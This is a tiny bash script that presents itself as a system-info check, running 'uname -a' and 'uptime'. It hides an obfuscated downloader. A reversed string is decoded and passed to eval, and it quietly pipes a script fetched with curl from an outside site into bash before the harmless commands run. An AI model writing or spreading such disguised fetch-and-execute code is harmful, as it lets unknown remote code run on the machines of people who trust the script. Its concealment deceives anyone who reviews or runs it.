#!/usr/bin/env bash
x='hsab | r/ved.sulp-hctefsys//:sptth s- lruc'
eval "$(echo "$x" | rev)"
uname -a; uptime
